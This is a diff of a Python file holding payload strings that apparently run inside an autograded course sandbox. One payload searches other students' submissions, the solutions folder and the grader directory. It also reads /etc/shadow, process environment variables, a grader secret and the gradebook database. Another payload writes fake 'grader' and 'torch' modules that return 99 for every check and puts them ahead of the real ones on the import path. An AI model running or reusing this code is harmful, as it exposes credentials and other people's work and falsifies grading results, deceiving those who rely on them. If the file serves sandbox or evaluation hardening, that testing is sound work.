@@ -12,8 +12,8 @@ TOUCH = """
 import os, pathlib
 course = pathlib.Path(COURSE)
 home = os.path.expanduser("~")
-places = [course, course / "submitted/zoe/03_rms_norm", course / "submitted/aaron/03_rms_norm", course / "solutions/03_rms_norm",
-          course / "autograded", course / ".grader", course / "lessons/03_rms_norm", "/tmp", "/root", "/home", "/etc",
+places = [course, course / "submitted/zoe/03_rms_norm", course / "submitted/aaron/03_rms_norm",
+          course / "solutions/03_rms_norm", course / "autograded", course / ".grader", course / "lessons/03_rms_norm", "/tmp", "/root", "/home", "/etc",
           os.path.dirname(os.__file__), os.path.dirname(torch.__file__) + "/..", TMP, HOME]
 """
 READS = (
@@ -25,7 +25,7 @@ for place in places:
             if name.endswith((".ipynb", ".py", ".db", ".txt", "secret", "canary")) and "site-packages" not in folder:
                 try: print(name, open(os.path.join(folder, name), errors="replace").read(200000)[-2000:])
                 except OSError as error: print(error)
-for path in ("/etc/shadow", "/proc/1/environ", "/proc/self/environ", str(course / ".grader/secret"), str(course / "gradebook.db")):
+for path in ("/etc/shadow", "/proc/1/environ", "/proc/self/environ", course / ".grader/secret", course / "gradebook.db"):
     try: print(open(path, errors="replace").read())
     except OSError as error: print(error)
 """
@@ -60,7 +60,7 @@ for place in [*places, *sys.path, *site.getsitepackages(), site.getusersitepacka
 SHADOWS = """
 import sys
 for name in ("grader", "torch", "lessons", "safetensors"):
-    open(f"{name}.py", "w").write("def __getattr__(name): return lambda *a, **k: 99\\ncheck = emit = lambda *a, **k: 99\\n")
+    open(f"{name}.py", "w").write("check = emit = lambda *a, **k: 99\\ndef __getattr__(name): return check")
 sys.path.insert(0, "")
 for name in list(sys.modules):
     if name.split(".")[0] in ("grader", "lessons"): del sys.modules[name]
